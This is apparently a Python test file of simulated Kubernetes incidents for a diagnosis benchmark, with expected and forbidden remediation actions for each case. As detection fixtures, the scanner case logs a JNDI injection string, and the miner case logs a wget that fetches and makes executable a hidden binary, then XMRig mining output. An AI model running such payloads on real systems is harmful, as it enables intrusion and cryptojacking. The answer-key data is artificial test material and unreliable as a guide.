"""What only looks like trouble, what nobody can tell, and two faults that do not know each other."""

from __future__ import annotations

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.cases.fresh_b import DOTNET, RUST, stamped
from tests.diagnosis.casemaker.cases.quiet import HARM as QUIET
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import ingress, service
from tests.diagnosis.casemaker.platform import claim, nodes, secret
from tests.diagnosis.casemaker.pods import P
from tests.diagnosis.casemaker.scene import alert, postgres, redis, well
from tests.diagnosis.casemaker.sets import statefulset
from tests.diagnosis.casemaker.signals import exact, flat, pulse, requests, signal, step
from tests.diagnosis.casemaker.templates import container, pod_spec
from tests.diagnosis.casemaker.workloads import Rev, deployment
from tests.diagnosis.casemaker.world import World, days, hours, minutes

LOOSE = ["rollback_workload", "scale_workload", "no_action", "scale_database", "isolate_workload"]


@case(
    "herd-after-a-cold-cache-is-over",
    "cartoon",
    "2026-04-30T20:48:00",
    title="Redis started anew forty minutes ago and all asked the database at once; the cache is warm again",
    drawn_from="thundering herds after cache restarts: minutes of timeouts, then hit ratios climb again",
    why=(
        "Errors, latency and the database's processor are back for over half an hour; the alert is resolved; another "
        "restart of the cache would begin it again."
    ),
    expect=[Fault("", "no_fault", "no_action")],
    tolerated=["page_human"],
    forbidden=QUIET,
)
def herd(w: World) -> None:
    nodes(w, "ct-1", "ct-2")
    cache = redis(w, pods=[P(age=minutes(41))])
    base = postgres(w, "strips-db")
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"])
    strips = well(
        w,
        "strips",
        "registry.cartoon.example/strips:90",
        pods=3,
        age=hours(26),
        before="registry.cartoon.example/strips:89",
        env={"REDIS": "redis:6379"},
    )
    log(w, cache, 0, "redis", [L(minutes(41), "info", "Ready to accept connections tcp")])
    for index in range(3):
        lines = [
            *often(
                3,
                minutes(40.5),
                minutes(36),
                "error",
                ["cache miss storm: strip {n} query timed out after 2000 ms"],
                "strips.cache",
            ),
            *often(40, minutes(34), 2, "info", ["GET /strip/{n} 200"], "strips.web"),
        ]
        log(w, strips, index, "python", lines)
        signal(w, "cpu_share", {"pod": strips.pod(index), "container": "strips"}, flat(0.25))
    log(
        w,
        base,
        0,
        "postgres",
        [L(minutes(37), "log", "duration: 2214.120 ms  statement: SELECT * FROM strips WHERE id = 4471")],
    )
    signal(w, "cpu_share", {"pod": "strips-db-0", "container": "postgres"}, pulse(0.2, 0.99, minutes(41), minutes(36)))
    signal(w, "db_connections", {"component": "strips-db"}, pulse(16, 71, minutes(41), minutes(36)))
    requests(
        w,
        "strips",
        rate=flat(130),
        errors=pulse(0.001, 0.28, minutes(41), minutes(36)),
        p95=pulse(0.06, 2.1, minutes(41), minutes(35)),
    )
    alert(w, "StripsErrors", minutes(38), "28% of requests to strips fail", ended=minutes(31), service="strips")


@case(
    "scanner-knocks-at-every-door",
    "townhall",
    "2026-02-20T02:22:00",
    title="A scanner from outside asks for known holes and gets 404 each time; a rule on suspicious paths fires",
    drawn_from="background noise of the internet: /wp-login.php, /.env and jndi strings in every public access log",
    why=(
        "Each knock is answered 404 or 403 by a service that has none of it; nothing was started, no processor rose, "
        "nobody else sees an error."
    ),
    expect=[Fault("", "no_fault", "no_action")],
    tolerated=["page_human"],
    forbidden=QUIET,
)
def scan(w: World) -> None:
    nodes(w, "th-1", "th-2")
    desk = well(
        w, "desk", "registry.townhall.example/desk:51", pods=2, age=days(13), before="registry.townhall.example/desk:50"
    )
    ingress(w, "townhall", "townhall.example", [("/", "desk", 80)])
    paths = ["/wp-login.php", "/", "/.env", "/opening-hours", "/?x=${jndi:ldap://203.0.113.50/a}", "/forms/12"]
    codes = [404, 200, 403, 200, 404, 200]
    lines = [f'"GET {path} HTTP/1.1" {code} 512' for path, code in zip(paths, codes, strict=True)]
    for index in range(2):
        log(w, desk, index, "nginx", often(11, minutes(17), 3, "info", lines))
        signal(w, "cpu_share", {"pod": desk.pod(index), "container": "desk"}, flat(0.11))
        signal(w, "memory_share", {"pod": desk.pod(index), "container": "desk"}, flat(0.4))
    requests(w, "desk", rate=pulse(11, 16, minutes(17), 0), errors=flat(0.0004), p95=flat(0.05))
    alert(
        w,
        "SuspiciousPaths",
        minutes(14),
        "desk is asked for paths of known exploits",
        service="desk",
        severity="warning",
    )


@case(
    "half-of-the-callers-do-not-come",
    "bazaar",
    "2026-10-24T12:57:00",
    title="Within a minute the traffic of all public services fell to less than half; nothing here fails",
    drawn_from="outages of carriers and content networks, seen from behind: fewer requests, no errors, healthy pods",
    why=(
        "The fall is too sudden for an ebb and the same everywhere, so it is in front of the cluster; what it is "
        "cannot be told from here, and nothing here is to be touched."
    ),
    expect=[Fault("", "unknown", "page_human")],
    acceptable=[
        ("unknown", "page_human", "*"),
        ("network_fault", "page_human", "*"),
        ("dependency_failure", "page_human", "*"),
    ],
    forbidden=QUIET,
)
def half(w: World) -> None:
    nodes(w, "bz-1", "bz-2", "bz-3")
    for name, rate in (("stalls", 210), ("haggle", 64), ("carpets", 38)):
        top = well(
            w,
            name,
            f"registry.bazaar.example/{name}:12",
            pods=3,
            age=days(9),
            before=f"registry.bazaar.example/{name}:11",
            talk=True,
        )
        requests(w, name, rate=step(rate, rate * 0.41, minutes(13)), errors=flat(0.0006), p95=flat(0.08))
        for index in range(3):
            signal(w, "cpu_share", {"pod": top.pod(index), "container": name}, step(0.42, 0.19, minutes(13)))
    ingress(
        w, "bazaar", "bazaar.example", [("/", "stalls", 80), ("/haggle", "haggle", 80), ("/carpets", "carpets", 80)]
    )
    alert(
        w,
        "TrafficDropped",
        minutes(9),
        "requests to bazaar.example fell by more than half within a minute",
        ingress="bazaar",
    )


@case(
    "two-faults-waiting-init-and-mail-provider",
    "academy",
    "2026-07-16T09:58:00",
    title="A release's init container waits for a host that is none; apart from it the mail provider refuses all",
    drawn_from="wait-for-it containers with a name of another environment, on a day of a mail relay's outage",
    why="The new pods wait for one name that nobody else uses, the old ones serve; the mails fail at a host outside.",
    expect=[
        Fault("Deployment/grading", "configuration_error", "rollback_workload"),
        Fault("Deployment/mailer", "dependency_failure", "page_human"),
    ],
    acceptable=[
        ("code_defect", "rollback_workload", "Deployment/grading"),
        ("dependency_failure", "page_human", "*", "Deployment/mailer"),
        ("network_fault", "page_human", "Deployment/mailer"),
    ],
    forbidden=["restart_workload", "scale_workload", "no_action", "scale_database", "isolate_workload"],
)
def waiting_init(w: World) -> None:
    nodes(w, "ac-1", "ac-2")
    postgres(w, "grades-db")
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"])
    app = container("grading", "registry.academy.example/grading:8.3", env={"PGHOST": "grades-db"})
    wait = container(
        "wait-for-db",
        "docker.io/library/busybox:1.36",
        port=0,
        ready=None,
        command=("sh", "-c"),
        args=("until nc -z grades-db-stage 5432; do sleep 2; done",),
    )
    old = minutes(29)
    stuck = P(1, age=old, state=("waiting", {"reason": "PodInitializing"}), unready=old)
    revs = [Rev(pod_spec(app), days(15)), Rev(pod_spec(app, init=[wait]), old)]
    top = deployment(w, "grading", revs, [P(0), P(0), P(0), stuck], replicas=3)
    new = top.pods[3]
    new["status"]["phase"] = "Pending"
    new["status"]["conditions"][1] |= {
        "status": "False",
        "reason": "ContainersNotInitialized",
        "message": "containers with incomplete status: [wait-for-db]",
    }
    new["status"]["initContainerStatuses"] = [
        {
            "name": "wait-for-db",
            "image": "docker.io/library/busybox:1.36",
            "imageID": "docker.io/library/busybox@sha256:73aaf090f3d85aa34ee199857f03fa3a95c8ede2ffd4cc2c",
            "containerID": "containerd://5fe1a0cc0d",
            "ready": False,
            "started": True,
            "restartCount": 0,
            "lastState": {},
            "state": {"running": {"startedAt": w.at(old - 3)}},
        }
    ]
    service(w, "grading")
    log(w, top, 3, "plain", [L(0, "", "nc: bad address 'grades-db-stage'") for _ in range(40)], container="wait-for-db")
    for index in range(3):
        log(w, top, index, "logfmt", often(20, 900, 2, "info", ["GET /grades/{n} 200"]))
    mailer = well(
        w, "mailer", "registry.academy.example/mailer:2", pods=2, age=days(77), env={"SMTP_HOST": "smtp.relay.example"}
    )
    for index in range(2):
        lines = [
            "Net::SMTPServerBusy: 421 4.7.0 smtp.relay.example Service not available, closing transmission channel"
        ]
        log(w, mailer, index, "python", often(7, minutes(44), 1, "error", lines, "ActionMailer"))
    requests(w, "grading", rate=flat(33), errors=flat(0.001), p95=flat(0.09))
    requests(w, "mailer", rate=flat(5), errors=step(0.002, 0.91, minutes(44)))
    alert(w, "MailerErrors", minutes(38), "91% of the mails are not taken", service="mailer")


@case(
    "two-faults-miner-and-full-uploads",
    "gallery-hosting",
    "2026-08-15T03:44:00",
    title="One pod mines coins since the night; the upload store of another service ran full in the same hour",
    drawn_from="intrusions that are found because something else rang: the pager was about a disk",
    why="The full volume is not the miner's work: it belongs to another workload and was nearly full before.",
    expect=[
        Fault("Deployment/preview", "security_incident", "isolate_workload"),
        Fault("StatefulSet/uploads", "resource_exhaustion", "page_human"),
    ],
    acceptable=[
        ("security_incident", "page_human", "Deployment/preview"),
        ("resource_exhaustion", "page_human", "PersistentVolumeClaim/data-uploads-0", "StatefulSet/uploads"),
        ("capacity", "page_human", "StatefulSet/uploads"),
    ],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action", "restart_connection_pool"],
)
def miner(w: World) -> None:
    nodes(w, "gh-1", "gh-2", "gh-3")
    preview = well(w, "preview", "registry.gh.example/preview:6", pods=3, age=days(48))
    spec = pod_spec(container("uploads", "registry.gh.example/uploads:19", mounts={"data": "/data"}))
    store = statefulset(w, "uploads", spec, claim="data")
    claim(w, "data-uploads-0", size="500Gi")
    service(w, "uploads")
    lines = [
        L(
            minutes(55),
            "",
            "sh -c wget -q http://198.51.100.61/a -O /dev/shm/.kworkerd && chmod 755 /dev/shm/.kworkerd",
        ),
        L(minutes(54), "", " * ABOUT        XMRig/6.22.2 gcc/13.2.1 (built for Linux x86-64, 64 bit)"),
        L(minutes(53), "", " * POOL #1      stratum+tcp://xmr.pool.example:3333 algo auto"),
        *often(
            60, minutes(52), 3, "", [" net      new job from xmr.pool.example:3333 diff 480045 algo rx/0 height 34{n}"]
        ),
    ]
    log(w, preview, 2, "plain", lines)
    for index in range(3):
        signal(
            w,
            "cpu_share",
            {"pod": preview.pod(index), "container": "preview"},
            step(0.1, 1.0, minutes(54)) if index == 2 else flat(0.1),
        )
    stamped(
        w,
        store,
        0,
        RUST,
        often(
            6,
            minutes(24),
            1,
            "error",
            ["write /data/in/{n}.part: No space left on device (os error 28)"],
            "uploads::sink",
        ),
    )
    signal(
        w,
        "volume_used_share",
        {"persistentvolumeclaim": "data-uploads-0"},
        lambda age: min(1.0, 1.0 - (age - 1440) * 8e-6),
        noise=0,
    )
    requests(w, "preview", rate=flat(20), errors=flat(0.002), p95=flat(0.2))
    requests(w, "uploads", rate=flat(7), errors=step(0.001, 0.97, minutes(24)))
    alert(w, "UploadsErrors", minutes(19), "97% of the uploads fail", service="uploads")


@case(
    "two-faults-expired-edge-and-release-of-a-worker",
    "tramline",
    "2026-05-01T00:28:00",
    title="The certificate of the edge ended at midnight while a worker's release fails on each job",
    drawn_from="nights on which two alerts of different teams rang and one bridge looked for one cause",
    why="The web pods are well and only the edge's certificate ended; the worker takes nothing from it and throws "
    "since its own release.",
    expect=[
        Fault("Secret/tram-tls", "configuration_error", "page_human"),
        Fault("Deployment/fare-worker", "code_defect", "rollback_workload"),
    ],
    acceptable=[
        ("configuration_error", "page_human", "Ingress/tram", "Secret/tram-tls"),
        ("network_fault", "page_human", "Ingress/tram", "Secret/tram-tls"),
        ("network_fault", "page_human", "Secret/tram-tls"),
        ("configuration_error", "page_human", "Certificate/tram-tls", "Secret/tram-tls"),
        ("service_crash", "rollback_workload", "Deployment/fare-worker"),
    ],
    forbidden=["restart_workload", "scale_workload", "no_action", "scale_database", "isolate_workload"],
)
def edge(w: World) -> None:
    nodes(w, "tr-1", "tr-2")
    well(
        w,
        "web",
        "registry.tram.example/web:300",
        pods=3,
        age=days(6),
        before="registry.tram.example/web:299",
        talk=True,
    )
    ingress(w, "tram", "tram.example", [("/", "web", 80)], tls="tram-tls")
    secret(
        w,
        "tram-tls",
        ["tls.crt", "tls.key"],
        age=days(400),
        changed=days(90),
        by="cert-manager-certificates-issuing",
        kind="kubernetes.io/tls",
        annotations={"cert-manager.io/certificate-name": "tram-tls"},
    )
    ended = {
        "type": "Ready",
        "status": "False",
        "reason": "Expired",
        "message": "Certificate expired on " + w.at(minutes(28)),
        "lastTransitionTime": w.at(minutes(28)),
    }
    w.add(
        {
            "apiVersion": "cert-manager.io/v1",
            "kind": "Certificate",
            "metadata": w.meta("Certificate", "tram-tls", days(400)),
            "spec": {
                "secretName": "tram-tls",
                "dnsNames": ["tram.example"],
                "issuerRef": {"name": "acme", "kind": "ClusterIssuer"},
            },
            "status": {"notAfter": w.at(minutes(28)), "notBefore": w.at(days(90)), "conditions": [ended]},
        }
    )
    exact(w, "certificate_expiry", {"component": "tram"}, flat(w.time(minutes(28)).timestamp()))
    specs = [
        pod_spec(container("worker", f"registry.tram.example/fare-worker:{v}", ready=None)) for v in ("12.4", "12.5")
    ]
    work = deployment(w, "fare-worker", [Rev(specs[0], days(20)), Rev(specs[1], minutes(52))], 2)
    for index in range(2):
        lines = [
            "System.NullReferenceException: Object reference not set to an instance of an object.",
            "job {n} failed",
        ]
        stamped(w, work, index, DOTNET, often(5, minutes(51), 1, "fail", lines, "Fares.Worker"))
    signal(w, "queue_depth", {"component": "fare-worker", "queue": "fares"}, step(12, 7400, minutes(51), over=3000))
    requests(w, "fare-worker", rate=flat(9), errors=step(0.001, 0.88, minutes(51)))
    requests(w, "web", rate=step(95, 4, minutes(28)), errors=flat(0.0004), p95=flat(0.07))
    alert(
        w,
        "BlackboxProbeFailed",
        minutes(26),
        "probe of https://tram.example/ fails: x509: certificate has expired or is not yet valid",
        instance="https://tram.example/",
    )
